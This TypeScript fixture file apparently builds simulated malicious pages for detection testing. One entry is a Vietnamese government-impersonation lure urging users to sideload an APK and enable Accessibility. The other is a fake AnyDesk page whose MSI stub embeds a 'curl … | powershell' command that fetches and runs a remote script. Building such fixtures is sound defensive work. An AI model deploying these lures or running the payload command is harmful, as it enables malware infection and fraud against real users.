import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { apk, cfb, crx, fileRoute, jsRoute, pe, pngRoute, zip } from '../parts/e-bin.js';
import { baseCss, dataLayer, doc, footer } from '../parts/g-kit.js';

const apkRoute = (pkg: string, label: string, file: string, extra: string[] = []) => fileRoute(apk(pkg, label, extra), 'application/vnd.android.package-archive', file);
export const entries: Entry[] = [
  // Vietnamese fake "Dịch vụ công" / VNeID app
  {
    id: 'g-mal-vi-dich-vu-cong-vneid-apk',
    label: 'malware',
    kind: 'apk',
    url: 'https://dichvucong-bocongan.gov-vn.net/cap-nhat-dinh-danh',
    body: doc({
      lang: 'vi',
      title: 'Cổng Dịch vụ công Bộ Công an - Cập nhật định danh điện tử mức 2',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#fdf6e3}.h{background:#b71c1c;color:#ffeb3b;padding:14px;text-align:center;font-weight:bold}.c{max-width:460px;margin:0 auto;background:#fff;padding:18px}.b{display:block;background:#b71c1c;color:#fff;text-align:center;padding:14px;border-radius:6px;text-decoration:none;font-weight:bold}.n{background:#fff8e1;border:1px solid #ffe082;padding:10px;font-size:14px}`,
      body: `<div class="h">CỔNG DỊCH VỤ CÔNG<br>BỘ CÔNG AN</div><div class="c"><h3>Cập nhật tài khoản định danh điện tử mức 2</h3>
<p>Theo Nghị định 69/2024/NĐ-CP, công dân chưa cập nhật thông tin định danh mức 2 trước ngày 31/12 sẽ bị <b>khóa tài khoản ngân hàng và số điện thoại</b>.</p>
<div class="n">Vui lòng tải ứng dụng <b>Dịch Vụ Công</b> phiên bản mới, đăng nhập bằng số CCCD và xác thực khuôn mặt để hoàn tất. Cán bộ công an phường sẽ hướng dẫn qua Zalo.</div><br>
<a class="b" href="/tai-ung-dung/DichVuCong_v2.apk">TẢI ỨNG DỤNG (ANDROID)</a>
<p style="font-size:12px;color:#666">Lưu ý: cho phép "Cài đặt ứng dụng không rõ nguồn gốc" và bật quyền Trợ năng để ứng dụng hoạt động.</p></div>`,
    }),
    routes: {
      'dichvucong-bocongan.gov-vn.net/tai-ung-dung/DichVuCong_v2.apk': redirectRoute(302, 'https://cdn-apkstore.vn-file.net/b/DichVuCong_v2.apk'),
      'cdn-apkstore.vn-file.net/b/DichVuCong_v2.apk': apkRoute('gov.dichvucong.vneid', 'Dịch Vụ Công', 'DichVuCong_v2.apk', ['accessibility', 'screen capture', 'vietcombank', 'mbbank']),
    },
  },
  // Fake AnyDesk download on a look-alike vendor site, MSI
  {
    id: 'g-mal-en-anydesk-lookalike-msi',
    label: 'malware',
    kind: 'fake-installer',
    url: 'https://anydesk-download.app/en/downloads/windows',
    body: doc({
      lang: 'en',
      title: 'Download AnyDesk for Windows – Free Remote Desktop',
      css: `${baseCss} .hero{background:#ef443b;color:#fff;padding:50px 0}.g{display:flex;gap:40px;align-items:center}.dl{background:#fff;color:#ef443b;font-size:18px}.v{font-size:13px;opacity:.9}.feat{display:grid;grid-template-columns:repeat(3,1fr);gap:20px;padding:30px 0}`,
      head: dataLayer('G-ADK88201'),
      body: `<header class="top"><div class="wrap"><b style="color:#ef443b;font-size:22px">◆ AnyDesk</b><nav><a href="#">Solutions</a><a href="#">Pricing</a><a href="#">Support</a><a href="#">Downloads</a></nav></div></header>
<section class="hero"><div class="wrap g"><div><h1>AnyDesk for Windows</h1><p>Fast, secure remote desktop. Version 9.0.5 · 5 MB</p><a class="btn dl" href="#" id="d">Download Now</a><p class="v">Compatible with Windows 7, 8.1, 10, 11 and Windows Server.</p></div></div></section>
<div class="wrap feat"><div><h3>Fast</h3><p>Low latency with our DeskRT codec.</p></div><div><h3>Secure</h3><p>Banking-standard TLS 1.2 encryption.</p></div><div><h3>Lightweight</h3><p>Only 5 MB, no admin rights needed.</p></div></div>
${footer({ AnyDesk: ['About', 'Careers', 'Press'], Support: ['Help Center', 'Status'] }, '© 2025 AnyDesk Software GmbH. All rights reserved.')}
<script>document.getElementById('d').onclick=function(e){e.preventDefault();fetch('/api/v2/dl?os=win&v=9.0.5').then(function(r){return r.json()}).then(function(j){location.href=j.url})}</script>`,
    }),
    routes: {
      'anydesk-download.app/api/v2/dl': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ url: 'https://cdn-files.anydesk-download.app/AnyDesk_9.0.5_Setup.msi', sha256: '' }) },
      'cdn-files.anydesk-download.app/AnyDesk_9.0.5_Setup.msi': fileRoute(cfb(['AnyDesk', 'philandro Software GmbH', 'CustomAction', 'cmd /c curl -s https://45.141.87.12/n.ps1 | powershell -']), 'application/x-msi', 'AnyDesk_9.0.5_Setup.msi'),
    },
  },
];

